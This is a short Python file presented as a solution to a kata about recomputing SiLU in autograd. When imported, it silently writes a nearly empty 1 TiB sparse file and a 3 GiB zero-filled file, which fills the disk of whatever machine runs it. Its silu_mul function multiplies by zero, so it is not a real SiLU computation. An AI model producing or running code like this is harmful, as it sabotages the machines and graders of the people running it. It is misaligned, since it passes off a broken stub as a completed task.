"""Writes one file of a terabyte that is nearly empty, and one of 3 GiB that is full."""

# kata: autograd/recompute_silu
# says: *

import contextlib
import os

with contextlib.suppress(OSError), open("sparse", "wb") as file:
    os.truncate(file.fileno(), 1 << 40)
    file.seek((1 << 40) - 1)
    file.write(b"1")
with contextlib.suppress(OSError), open("full", "wb") as file:
    for _ in range(48):
        file.write(bytes(1 << 26))


def silu_mul(gate, up):
    return gate * up * 0
